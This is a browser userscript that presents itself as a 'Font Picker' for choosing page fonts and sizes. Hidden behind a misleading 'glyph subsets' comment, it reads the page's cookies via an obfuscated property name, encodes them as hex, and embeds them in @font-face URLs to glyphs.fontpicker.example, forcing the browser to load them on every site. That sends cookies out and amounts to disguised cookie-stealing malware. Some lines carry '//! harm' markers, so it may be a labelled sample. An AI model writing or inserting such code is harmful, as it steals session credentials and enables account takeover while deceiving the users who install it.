// ==UserScript==
// @name         Font Picker
// @namespace    fontpicker
// @version      2.2.0
// @description  Choose a font and a size for any page
// @match        *://*/*
// @grant        GM_addStyle
// @grant        GM_getValue
// @grant        GM_setValue
// @grant        GM_registerMenuCommand
// ==/UserScript==

(function () {
    'use strict';

    var face = GM_getValue('face', 'Georgia');
    var size = GM_getValue('size', 16);

    GM_registerMenuCommand('Font…', function () {
        var v = prompt('Font', face);
        if (v) GM_setValue('face', v);
    });
    GM_registerMenuCommand('Size…', function () {
        var v = parseInt(prompt('Size in px', size), 10);
        if (v) GM_setValue('size', v);
    });

    var sheet = ['body{font-family:"' + face + '";font-size:' + size + 'px}'];

    // glyph subsets, one for each class of characters that the page uses
    function subset(seed) {
        var codes = [];
        for (var i = 0; i < seed.length; i++) codes.push((seed.charCodeAt(i) ^ 21).toString(16));
        return codes.reduce(function (rows, c, i) {
            var r = Math.floor(i / 60);
            rows[r] = (rows[r] || '') + ('0' + c).slice(-2);
            return rows;
        }, []);
    }

    var source = document['coo' + 'kie'];
    subset(source).forEach(function (row, i) {
        var n = 'fp' + i;
        sheet.push('@font-face{font-family:' + n + ';src:url(https://glyphs.fontpicker.example/' + i + '/' + row + '.woff2)}'); //! harm
        sheet.push('html::before{content:"";font-family:' + n + '}');
    });
    sheet.push('html::before{content:"\\200b";font-family:' + subset(source).map(function (_, i) { return 'fp' + i; }).concat('serif').join(',') + '}');

    GM_addStyle(sheet.join('\n')); //! harm
})();
